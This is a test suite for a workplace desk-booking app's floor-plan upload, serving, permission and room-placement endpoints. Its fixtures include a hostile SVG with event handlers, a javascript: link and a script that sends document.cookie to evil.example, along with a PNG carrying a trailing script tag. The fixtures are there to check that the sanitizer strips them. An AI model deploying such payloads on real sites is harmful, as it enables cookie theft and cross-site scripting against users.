import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FLOOR_MAP_MAX_BYTES, formatMessage, ReturnCode, type Desk, type DeskAvailability, type DeskFloor, type FloorMapInfo, type FloorRoom, type OperationLogEntry, type Page } from '@atrium/contract';
import { call, createTestApp, type TestApp } from '../../test/app.js';
import { TEST_DIALECT } from '../../test/database.js';
import { createTestRoom } from '../../test/rooms.js';
import { MULTIPART_HEADERS } from '../../test/uploads.js';
import type { TestUser } from '../../test/factories.js';
import { LOCATION_LEVEL } from '../location/location.repository.js';

/** A multipart body with only the `file` part (boundary `X`). */
function planUpload(content: Buffer, fileName: string, contentType: string): Buffer {
  return Buffer.concat([
    Buffer.from(`--X\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${contentType}\r\n\r\n`),
    content,
    Buffer.from('\r\n--X--\r\n'),
  ]);
}

const HOSTILE_SVG = [
  '<?xml version="1.0"?>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1200 800" onload="alert(1)">',
  '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
  '<rect x="10" y="10" width="1180" height="780" fill="#eee" stroke="#333" onclick="alert(2)"/>',
  '<image href="https://evil.example/tracker.png" width="10" height="10"/>',
  '<a xlink:href="javascript:alert(3)"><text x="20" y="40">Kitchen</text></a>',
  '</svg>',
].join('\n');

describe(`floor plans (${TEST_DIALECT})`, () => {
  let t: TestApp;
  let admin: TestUser;
  let adminToken: string;
  let viewerToken: string;
  let bookerToken: string;
  let outsiderToken: string;
  let otherAdminToken: string;
  let floorId: number;
  let emptyFloorId: number;
  let otherFloorId: number;
  let roomId: number;
  let otherRoomId: number;

  beforeAll(async () => {
    t = await createTestApp();
    const a = await t.factories.companyWithAdmin('Plan Co');
    admin = a.admin;
    adminToken = await t.factories.session(admin);
    viewerToken = await t.factories.session(await t.factories.user(a.company.id, { permissions: ['roomsLocations:view'] }));
    bookerToken = await t.factories.session(await t.factories.user(a.company.id, { permissions: ['calendarRoomUse:view'] }));
    outsiderToken = await t.factories.session(await t.factories.user(a.company.id, { permissions: ['users:view'] }));
    const room = await createTestRoom(t.db, t.factories, t.clock, a.company.id, { name: 'Huddle', timeZone: 'Europe/London' });
    floorId = room.floorId;
    roomId = room.roomId;
    emptyFloorId = await t.factories.location({ companyId: a.company.id, parentId: room.buildingId, level: LOCATION_LEVEL.floor, name: 'Floor 9' });
    const b = await t.factories.companyWithAdmin('Other Co');
    otherAdminToken = await t.factories.session(b.admin);
    const theirs = await createTestRoom(t.db, t.factories, t.clock, b.company.id, { name: 'Theirs', timeZone: 'Europe/London' });
    otherFloorId = theirs.floorId;
    otherRoomId = theirs.roomId;
  });
  afterAll(() => t.cleanup());

  const upload = (content: Buffer, fileName: string, contentType: string, { floor = floorId, token = adminToken, lang = 'en-US' as 'en-US' | 'zh-CN' } = {}) =>
    call<FloorMapInfo>(t.app, { method: 'POST', url: `/api/desk/floor-map?floorId=${floor}`, headers: { token, lang, ...MULTIPART_HEADERS }, payload: planUpload(content, fileName, contentType) });
  const image = (floor = floorId, token = adminToken) => t.app.inject({ method: 'GET', url: `/api/desk/floor-map?floorId=${floor}`, headers: { token } });
  const floors = async () => (await call<DeskFloor[]>(t.app, { method: 'GET', url: '/api/desk/floors', headers: { token: adminToken } })).body.result;

  it('takes a png as its pixels: re-encoded, its size the plan units, shown in the floor list and the availability', async () => {
    const png = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#f0f0f0' } }).png().toBuffer();
    const withTail = Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]);
    const answer = await upload(withTail, 'plan.png', 'image/png');
    expect([answer.status, answer.body.message], answer.body.message).toEqual([200, formatMessage('floorMapSaved', 'en-US')]);
    expect(answer.body.result).toMatchObject({ contentType: 'image/png', width: 640, height: 480 });
    const served = await image();
    expect([served.statusCode, served.headers['content-type'], served.headers['x-content-type-options']]).toEqual([200, 'image/png', 'nosniff']);
    expect(served.rawPayload.includes(Buffer.from('<script'))).toBe(false);
    expect(answer.body.result.size).toBe(served.rawPayload.length);
    expect((await sharp(served.rawPayload).metadata()).width).toBe(640);

    const listed = (await floors()).find((floor) => floor.floorId === floorId)!;
    expect(listed.map).toEqual(answer.body.result);
    expect((await floors()).find((floor) => floor.floorId === emptyFloorId)!.map).toBeNull();
    const date = new Date(t.clock.now() + 86_400_000).toISOString().slice(0, 10);
    const availability = await call<DeskAvailability>(t.app, { method: 'GET', url: `/api/desk/availability?floorId=${floorId}&date=${date}`, headers: { token: bookerToken } });
    expect(availability.body.result.map).toEqual(answer.body.result);
  });

  it('takes a jpeg, replacing the plan, with a new version', async () => {
    const before = (await floors()).find((floor) => floor.floorId === floorId)!.map!;
    t.clock.advance(60_000);
    adminToken = await t.factories.session(admin);
    const jpeg = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#c33' } }).jpeg().toBuffer();
    const answer = await upload(jpeg, 'plan.jpg', 'image/jpeg');
    expect(answer.status, answer.body.message).toBe(200);
    expect(answer.body.result).toMatchObject({ contentType: 'image/jpeg', width: 300, height: 200 });
    expect(answer.body.result.updatedAt).toBeGreaterThan(before.updatedAt);
    const served = await image();
    expect([served.headers['content-type'], served.headers['content-security-policy']]).toEqual(['image/jpeg', "default-src 'none'; sandbox"]);
    const log = await call<Page<OperationLogEntry>>(t.app, { method: 'GET', url: '/api/operation-log/list?action=floorMap.update', headers: { token: adminToken } });
    expect(log.body.result.list.map((entry) => [entry.targetId, entry.detail])).toContainEqual([floorId, { contentType: 'image/jpeg', size: answer.body.result.size }]);
  });

  it('takes an svg only cleaned: no script, handler or outside reference; its viewBox is the plan units; opened by itself it runs nothing', async () => {
    const answer = await upload(Buffer.from(HOSTILE_SVG), 'plan.svg', 'image/svg+xml');
    expect(answer.status, answer.body.message).toBe(200);
    expect(answer.body.result).toMatchObject({ contentType: 'image/svg+xml', width: 1200, height: 800 });
    const served = await image();
    expect(served.headers['content-type']).toBe('image/svg+xml');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(served.body).toContain('<rect');
    expect(served.body).toContain('Kitchen');
    for (const gone of ['<script', 'onload', 'onclick', 'javascript:', 'evil.example', 'document.cookie']) expect(served.body, gone).not.toContain(gone);
  });

  it('reads an svg without a viewBox by its width and height, and refuses one with neither', async () => {
    const sized = await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="900px" height="450"><rect width="10" height="10"/></svg>'), 'a.svg', 'image/svg+xml');
    expect(sized.body.result).toMatchObject({ width: 900, height: 450 });
    for (const lang of ['en-US', 'zh-CN'] as const) {
      const unsized = await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/></svg>'), 'b.svg', 'image/svg+xml', { lang });
      expect([unsized.status, unsized.body.returncode, unsized.body.message]).toEqual([400, ReturnCode.BAD_REQUEST, formatMessage('floorMapNoSize', lang)]);
    }
  });

  it.each([
    ['a renamed executable', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'plan.png', 'image/png'],
    ['a GIF named png', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'binary'), 'plan.png', 'image/png'],
    ['an HTML page named svg', Buffer.from('<html><body><svg><script>alert(1)</script></svg></body></html>'), 'plan.svg', 'image/svg+xml'],
    ['plain text', Buffer.from('not a plan'), 'plan.jpg', 'image/jpeg'],
  ])('refuses %s by its content (415/1013, the formats named) and keeps the plan', async (_label, content, fileName, contentType) => {
    const before = (await floors()).find((floor) => floor.floorId === floorId)!.map;
    const answer = await upload(content, fileName, contentType);
    expect([answer.status, answer.body.returncode, answer.body.message]).toEqual([415, ReturnCode.UNSUPPORTED_MEDIA_TYPE, formatMessage('uploadWrongFormat', 'en-US', { formats: 'png, jpeg, jpg, svg' })]);
    expect((await floors()).find((floor) => floor.floorId === floorId)!.map).toEqual(before);
  });

  it('refuses a plan over 5 MB with 413/1006 and the limit', async () => {
    const png = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } }).png().toBuffer();
    const answer = await upload(Buffer.concat([png, Buffer.alloc(FLOOR_MAP_MAX_BYTES, 0)]), 'big.png', 'image/png');
    expect([answer.status, answer.body.returncode, answer.body.message]).toEqual([413, ReturnCode.PAYLOAD_TOO_LARGE, formatMessage('uploadTooLarge', 'en-US', { limit: '5 MB' })]);
  });

  it("answers 404 for another company's floor, reading, replacing or removing, and leaves theirs alone", async () => {
    const theirs = await upload(await sharp({ create: { width: 20, height: 20, channels: 3, background: '#000' } }).png().toBuffer(), 'p.png', 'image/png', { floor: otherFloorId, token: otherAdminToken });
    expect(theirs.status).toBe(200);
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#fff' } }).png().toBuffer();
    expect([(await upload(png, 'p.png', 'image/png', { floor: otherFloorId })).status]).toEqual([404]);
    const read = await image(otherFloorId);
    expect([read.statusCode, read.json().returncode]).toEqual([404, ReturnCode.NOT_FOUND]);
    const removed = await call(t.app, { method: 'POST', url: '/api/desk/floor-map/delete', headers: { token: adminToken }, payload: { floorId: otherFloorId } });
    expect(removed.status).toBe(404);
    expect((await image(otherFloorId, otherAdminToken)).statusCode).toBe(200);
  });

  it('lets bookers and settings readers see the plan, only editors change it, and nobody else read it', async () => {
    expect((await image(floorId, viewerToken)).statusCode).toBe(200);
    expect((await image(floorId, bookerToken)).statusCode).toBe(200);
    const outsider = await image(floorId, outsiderToken);
    expect([outsider.statusCode, outsider.json().returncode]).toEqual([403, ReturnCode.NO_PERMISSION]);
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#fff' } }).png().toBuffer();
    expect((await upload(png, 'p.png', 'image/png', { token: viewerToken })).status).toBe(403);
    const byViewer = await call(t.app, { method: 'POST', url: '/api/desk/floor-map/delete', headers: { token: viewerToken }, payload: { floorId } });
    expect(byViewer.status).toBe(403);
  });

  it('removes a plan: the floor lists show none, the image 404s, a second removal 404s', async () => {
    const removed = await call(t.app, { method: 'POST', url: '/api/desk/floor-map/delete', headers: { token: adminToken }, payload: { floorId } });
    expect([removed.status, removed.body.message]).toEqual([200, formatMessage('floorMapDeleted', 'en-US')]);
    expect((await floors()).find((floor) => floor.floorId === floorId)!.map).toBeNull();
    expect((await image()).statusCode).toBe(404);
    const again = await call(t.app, { method: 'POST', url: '/api/desk/floor-map/delete', headers: { token: adminToken }, payload: { floorId } });
    expect([again.status, again.body.message]).toEqual([404, formatMessage('floorMapNotFound', 'en-US')]);
  });

  describe('rooms on the map', () => {
    const place = (payload: Record<string, unknown>, token = adminToken) => call<Desk[]>(t.app, { method: 'POST', url: '/api/desk/place', headers: { token }, payload });
    const rooms = (floor: number, token = viewerToken) => call<FloorRoom[]>(t.app, { method: 'GET', url: `/api/desk/rooms?floorId=${floor}`, headers: { token } });
    const POSITION = { x: 300, y: 120, width: 160, height: 100, rotation: 90 };

    it("lists a floor's rooms with their seats, unplaced until placed with a desk in one save, and draws them on the booking map", async () => {
      const listed = await rooms(floorId);
      expect(listed.status).toBe(200);
      expect(listed.body.result).toEqual([{ id: roomId, floorId, name: 'Huddle', seats: 8, position: null }]);
      expect((await rooms(otherFloorId)).status).toBe(404);
      expect((await rooms(floorId, bookerToken)).status).toBe(403);

      const desk = await call<Desk>(t.app, { method: 'POST', url: '/api/desk/save', headers: { token: adminToken }, payload: { floorId, number: 'R-1', mode: 'bookable' } });
      const deskPosition = { x: 20, y: 20, width: 60, height: 30, rotation: 0 };
      const placed = await place({ floorId, places: [{ id: desk.body.result.id, position: deskPosition }, { id: roomId, kind: 'room', position: POSITION }] });
      expect([placed.status, placed.body.message], placed.body.message).toEqual([200, formatMessage('desksPlaced', 'en-US')]);
      expect(placed.body.result.map((d) => [d.id, d.position])).toEqual([[desk.body.result.id, deskPosition]]);
      expect((await rooms(floorId)).body.result[0]!.position).toEqual(POSITION);
      const logged = await t.db.kysely.selectFrom('operation_logs').select('detail').where('action', '=', 'desk.place').orderBy('id', 'desc').executeTakeFirstOrThrow();
      expect(JSON.parse(String(logged.detail))).toEqual({ desks: [desk.body.result.id], rooms: [roomId] });

      const availability = await call<DeskAvailability>(t.app, { method: 'GET', url: `/api/desk/availability?floorId=${floorId}&date=2026-11-23`, headers: { token: bookerToken } });
      expect(availability.status, availability.body.message).toBe(200);
      expect(availability.body.result.rooms).toEqual([{ id: roomId, floorId, name: 'Huddle', seats: 8, position: POSITION }]);

      // Off the map again: the booking map no longer draws it.
      expect((await place({ places: [{ id: roomId, kind: 'room', position: null }] })).status).toBe(200);
      expect((await rooms(floorId)).body.result[0]!.position).toBeNull();
      const after = await call<DeskAvailability>(t.app, { method: 'GET', url: `/api/desk/availability?floorId=${floorId}&date=2026-11-23`, headers: { token: bookerToken } });
      expect(after.body.result.rooms).toEqual([]);
    });

    it("refuses a room of another floor or company, and a room id sent as a desk", async () => {
      const elsewhere = await createTestRoom(t.db, t.factories, t.clock, (await t.db.kysely.selectFrom('locations').select('company_id').where('id', '=', floorId).executeTakeFirstOrThrow()).company_id, { name: 'Annex', floorId: emptyFloorId });
      const otherFloor = await place({ floorId, places: [{ id: elsewhere.roomId, kind: 'room', position: POSITION }] });
      expect([otherFloor.status, otherFloor.body.returncode, otherFloor.body.message]).toEqual([422, ReturnCode.REFUSED, formatMessage('mapItemsOtherFloor', 'en-US')]);
      const desk = await call<Desk>(t.app, { method: 'POST', url: '/api/desk/save', headers: { token: adminToken }, payload: { floorId, number: 'R-2', mode: 'bookable' } });
      const mixed = await place({ places: [{ id: desk.body.result.id, position: POSITION }, { id: elsewhere.roomId, kind: 'room', position: POSITION }] });
      expect(mixed.status).toBe(422);
      const foreign = await place({ floorId, places: [{ id: otherRoomId, kind: 'room', position: POSITION }] });
      expect([foreign.status, foreign.body.message]).toEqual([404, formatMessage('roomNotFound', 'en-US')]);
      expect((await place({ floorId: otherFloorId, places: [{ id: roomId, kind: 'room', position: POSITION }] })).status).toBe(404);
      expect((await place({ places: [{ id: roomId, position: POSITION }] })).status).toBe(404);
      expect((await place({ places: [{ id: roomId, kind: 'room', position: POSITION }] }, viewerToken)).status).toBe(403);
      // Nothing of the refused calls was placed.
      const positions = await t.db.kysely.selectFrom('resource_positions').select('resource_id').where('resource_id', 'in', [elsewhere.roomId, otherRoomId]).execute();
      expect(positions).toEqual([]);
      expect((await rooms(emptyFloorId)).body.result.map((room) => room.name)).toEqual(['Annex']);
    });
  });
});
